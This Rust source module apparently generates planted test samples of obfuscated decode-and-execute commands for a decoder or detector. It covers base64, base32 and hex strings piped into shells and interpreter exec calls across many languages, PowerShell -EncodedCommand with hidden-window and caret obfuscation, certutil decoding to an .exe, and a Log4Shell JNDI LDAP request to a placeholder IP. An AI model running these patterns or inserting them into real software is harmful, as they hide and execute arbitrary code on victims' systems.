//! The programs and functions that decode, as each language and each shell calls them, with
//! short payloads where the call announces them.

use super::*;
use crate::contents::short;

pub(super) const ALL: &[Kind] = &[
    ("openssl, short", |rng| {
        calls(
            rng,
            &[
                "echo @ | openssl base64 -d | sh",
                "openssl enc -base64 -d -A <<< @ | bash",
                "printf %s @ | openssl enc -d -base64 -A | sh",
            ],
        )
    }),
    ("base64 --decode, short", |rng| {
        calls(
            rng,
            &[
                "echo @ | base64 --decode | sh",
                "echo \"@\" |base64 -D|bash",
                "echo -n @|base64 -di|sh",
                "sh -c \"$(base64 -d <<< @)\"",
                "eval $(echo @ | busybox base64 -d)",
                "bash -c \"$(echo '@' | base64 -d)\"",
            ],
        )
    }),
    ("python, short", |rng| {
        calls(
            rng,
            &[
                "python3 -c \"import base64,os;os.system(base64.b64decode(b'@').decode())\"",
                "python -c \"exec('@'.decode('base64'))\"",
                "python -c 'import base64;exec(base64.urlsafe_b64decode(\"@\"))'",
                "python3 -c \"__import__('os').system(__import__('base64').b64decode('@'))\"",
                "python3 -c \"import binascii;exec(binascii.a2b_base64('@'))\"",
            ],
        )
    }),
    ("perl, ruby, php, node, short", |rng| {
        calls(
            rng,
            &[
                "perl -MMIME::Base64 -e 'system(decode_base64(\"@\"))'",
                "ruby -rbase64 -e 'system(Base64.decode64(\"@\"))'",
                "php -r 'system(base64_decode(\"@\"));'",
                "node -e \"require('child_process').exec(Buffer.from('@','base64')+'')\"",
                "node -e \"eval(atob('@'))\"",
                "ruby -e 'exec \"@\".unpack1(\"m\")'",
            ],
        )
    }),
    ("java, go, c#, short", |rng| {
        calls(
            rng,
            &[
                "Runtime.getRuntime().exec(new String(Base64.getDecoder().decode(\"@\")))",
                "exec.Command(base64.StdEncoding.DecodeString(\"@\"))",
                "Process.Start(Encoding.UTF8.GetString(Convert.FromBase64String(\"@\")))",
                "SELECT FROM_BASE64('@')",
                "String cmd = new String(DatatypeConverter.parseBase64Binary(\"@\"));",
            ],
        )
    }),
    ("log4shell", |rng| {
        let text = script(rng, 24);
        let encoded = STANDARD.encode(&text);
        let path = rng.pick(&["Basic/Command/Base64/", "TomcatBypass/Command/Base64/"]);
        let text_ = format!(
            "GET /?x=${{jndi:ldap://192.0.2.{}:1389/{path}{encoded}}} HTTP/1.1",
            rng.below(256)
        );
        Planted::new(text_, text)
    }),
    ("-enc in every abbreviation", |rng| {
        let hidden = wide(&short(rng), u16::to_le_bytes);
        let whole = "EncodedCommand";
        let name = &whole[..rng.between(1, whole.len())];
        let name: String = name
            .chars()
            .map(|c| match rng.below(2) {
                0 => c.to_ascii_uppercase(),
                _ => c.to_ascii_lowercase(),
            })
            .collect();
        let shell = rng.pick(&[
            "powershell.exe -NoP -NonI -W Hidden -Exec Bypass",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "cmd.exe /c start /b powershell -w 1 -sta",
            "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -noprofile",
        ]);
        let (dash, quote) = (rng.pick(&["-", "/"]), rng.pick(&["", "\"", "'"]));
        let text = format!(
            "{shell} {dash}{name} {quote}{}{quote}",
            STANDARD.encode(&hidden)
        );
        Planted::new(text, hidden)
    }),
    ("-enc with carets in the switch", |rng| {
        let hidden = wide(&script(rng, 24), u16::to_le_bytes);
        let switch = rng.pick(&["-^e^n^c", "^-e^nc", "-E^n^C^o^d^e^d^C^ommand", "/^e^n^c"]);
        let text = format!(
            "cmd /c p^o^w^e^r^s^h^e^l^l {switch} {}",
            STANDARD.encode(&hidden)
        );
        Planted::new(text, hidden)
    }),
    ("here-document", |rng| {
        let hidden = script(rng, 120).into_bytes();
        let lines = lines(&STANDARD.encode(&hidden), 76, "\n");
        let text = format!("base64 -d > /tmp/{} <<EOF\n{lines}\nEOF\n", rng.word(3, 8));
        Planted::new(text, hidden)
    }),
    ("here-string of PowerShell", |rng| {
        let hidden = wide(&script(rng, 120), u16::to_le_bytes);
        let lines = lines(&STANDARD.encode(&hidden), 76, "\r\n");
        let text = format!("$b = @'\r\n{lines}\r\n'@\r\n[Convert]::FromBase64String($b)");
        Planted::new(text, hidden)
    }),
    ("certutil, PEM", |rng| {
        let hidden = crate::contents::program(rng);
        let lines = lines(&STANDARD.encode(&hidden), 64, "\r\n");
        let text =
            format!("-----BEGIN CERTIFICATE-----\r\n{lines}\r\n-----END CERTIFICATE-----\r\n");
        Planted::new(text, hidden)
    }),
    ("certutil, echoed lines", |rng| {
        let hidden = crate::contents::program(rng);
        let text = format!(
            "echo {} > a.b64 & certutil -decode a.b64 a.exe",
            STANDARD.encode(&hidden)
        );
        Planted::new(text, hidden)
    }),
    ("xxd, unhexlify", |rng| {
        let hidden = script(rng, 24);
        let digits = each(hidden.as_bytes(), |byte| format!("{byte:02x}"), "");
        let text = match rng.below(5) {
            0 => format!("echo {digits} | xxd -r -p | sh"),
            1 => format!("xxd -r -p <<< \"{digits}\" | bash"),
            2 => format!("python -c \"exec(bytes.fromhex('{digits}'))\""),
            3 => format!("python -c \"import binascii;exec(binascii.unhexlify('{digits}'))\""),
            _ => format!("DECLARE @x varchar(8000) SET @x=0x{digits} EXEC(@x)"),
        };
        Planted::new(text, hidden)
    }),
    ("printf, echo -e, $''", |rng| {
        let hidden = script(rng, 24);
        let escapes = each(hidden.as_bytes(), |byte| format!("\\x{byte:02x}"), "");
        let text = match rng.below(4) {
            0 => format!("printf '{escapes}' | sh"),
            1 => format!("echo -e \"{escapes}\"|bash"),
            2 => format!("$'{escapes}'"),
            _ => format!("perl -e 'system(\"{escapes}\")'"),
        };
        Planted::new(text, hidden)
    }),
    ("base32 -d", |rng| {
        let hidden = script(rng, 24);
        let encoded = super::written::base32(hidden.as_bytes());
        Planted::new(format!("echo {encoded} | base32 -d | sh"), hidden)
    }),
    ("base32, unpadded, small", |rng| {
        let hidden = script(rng, 24);
        let encoded = super::written::base32(hidden.as_bytes());
        let encoded = encoded.trim_end_matches('=').to_ascii_lowercase();
        say(rng, &encoded, hidden.into_bytes())
    }),
];

/// One of these lines, with a short command in place of `@`.
fn calls(rng: &mut Rng, lines: &[&str]) -> Planted {
    let hidden = short(rng);
    let line = rng.pick(lines);
    Planted::new(line.replace('@', &STANDARD.encode(&hidden)), hidden)
}

/// Symbols in lines of one length.
pub(super) fn lines(symbols: &str, width: usize, end: &str) -> String {
    let lines: Vec<&str> = symbols
        .as_bytes()
        .chunks(width)
        .map(|line| std::str::from_utf8(line).unwrap())
        .collect();
    lines.join(end)
}
